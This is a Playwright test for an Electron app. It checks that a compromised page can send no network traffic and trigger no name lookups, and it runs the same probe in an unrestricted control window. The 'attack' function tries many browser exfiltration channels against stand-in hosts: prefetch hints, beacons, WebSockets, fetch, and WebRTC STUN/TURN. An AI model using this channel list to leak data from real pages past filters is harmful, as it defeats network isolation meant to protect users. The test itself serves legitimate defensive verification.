import { expect, test } from "../e2e/fixtures";
import { startCounters } from "./counters";

type Targets = { addresses: string[]; udpPort: number; tcpPort: number; label: string };

/** Runs in a page: tries every way out that a page has without the request filter. Returns the ICE candidates. */
async function attack({ addresses, udpPort, tcpPort, label }: Targets): Promise<string[]> {
  const name = (kind: string) => `${kind}-${label}.plusofon-test.example`;
  for (const kind of ["dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload"]) {
    const link = document.createElement("link");
    link.rel = kind;
    link.href = `https://${name(kind)}/`;
    if (kind === "preload") link.as = "image";
    document.head.append(link);
  }
  const control = document.createElement("meta");
  control.httpEquiv = "x-dns-prefetch-control";
  control.content = "on";
  document.head.append(control);
  for (const [element, attribute] of [
    ["a", "href"],
    ["img", "src"],
    ["iframe", "src"],
    ["video", "poster"],
    ["object", "data"],
    ["script", "src"],
  ] as const) {
    const made = document.createElement(element);
    made.setAttribute(attribute, `https://${name(element)}/`);
    if (element === "a") made.setAttribute("ping", `https://${name("ping")}/`);
    document.body.append(made);
    if (made instanceof HTMLAnchorElement) made.click();
  }
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`https://${name("rules")}/`] }] });
  document.head.append(rules);
  navigator.sendBeacon(`https://${name("beacon")}/`, "key");
  for (const open of [
    () => new WebSocket(`wss://${name("socket")}/`),
    () => new EventSource(`https://${name("events")}/`),
    () => new Worker(`https://${name("worker")}/`),
    () => Reflect.construct(Reflect.get(globalThis, "WebTransport"), [`https://${name("transport")}/`]),
    () => fetch(`https://${name("fetch")}/`),
  ]) {
    try {
      Promise.resolve(open()).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
  const turn = (address: string) => [
    `turn:${address}:${udpPort}?transport=udp`,
    `turn:${address}:${tcpPort}?transport=tcp`,
    `turns:${address}:${tcpPort}?transport=tcp`,
  ];
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: addresses.map((address) => `stun:${address}:${udpPort}`) },
      { urls: addresses.flatMap(turn), username: "the-access-key", credential: "x" },
      {
        urls: [`stun:${name("stun")}:${udpPort}`, `turn:${name("turn")}:${tcpPort}?transport=tcp`],
        username: "k",
        credential: "x",
      },
    ],
  });
  const candidates: string[] = [];
  connection.addEventListener("icecandidate", ({ candidate }) => candidates.push(candidate?.candidate ?? ""));
  connection.createDataChannel("key");
  await connection.setLocalDescription(await connection.createOffer());
  // Another peer, at a plain address.
  const remote = `candidate:1 1 udp 2122260223 ${addresses[0]} ${udpPort} typ host`;
  const peer = new RTCPeerConnection();
  await peer.setRemoteDescription(connection.localDescription ?? { type: "offer", sdp: "" });
  await peer.setLocalDescription(await peer.createAnswer());
  await connection.setRemoteDescription(peer.localDescription ?? { type: "answer", sdp: "" });
  await connection.addIceCandidate({ candidate: remote, sdpMid: "0" }).catch(() => undefined);
  // Long enough for several attempts of each kind; the control shows that they come within it.
  await new Promise((resolve) => setTimeout(resolve, 6_000));
  return candidates;
}

test("a compromised page sends no packet and asks for no name; an ordinary page does both", async ({
  launch,
}) => {
  const { ownAddress } = await import("./namespace.mjs");
  const counters = await startCounters();
  const app = await launch();
  const page = await app.page();
  await expect(page.getByText("Неофициальная программа").first()).toBeVisible();
  const targets = { addresses: ["127.0.0.1", ownAddress, "192.0.2.77"], ...counters, label: "page" };
  const { addresses, udpPort, tcpPort, label } = targets;
  const plain = { addresses, udpPort, tcpPort, label };
  const before = counters.read();
  const candidates = await page.evaluate(attack, plain);
  expect({ ...counters.read(), candidates: candidates.filter((text) => text !== "") }).toEqual({
    ...before,
    candidates: [],
  });

  // The control: the same in a page that nothing restricts is counted.
  const opened = app.electron.waitForEvent("window");
  await app.electron.evaluate(async ({ BrowserWindow, session }) => {
    const control = new BrowserWindow({
      show: false,
      webPreferences: { session: session.fromPartition("control") },
    });
    control.webContents.setWebRTCIPHandlingPolicy("default");
    await control.loadURL("data:text/html,<title>control</title>");
  });
  const control = await opened;
  await control.evaluate(attack, { ...plain, label: "control" });
  const after = counters.read();
  expect(after.datagrams).toBeGreaterThan(before.datagrams);
  expect(after.connections).toBeGreaterThan(before.connections);
  expect(after.leftPackets).toBeGreaterThan(before.leftPackets);
  expect(after.names.filter((name) => name.includes("control")).length).toBeGreaterThan(3);
  counters.close();
});
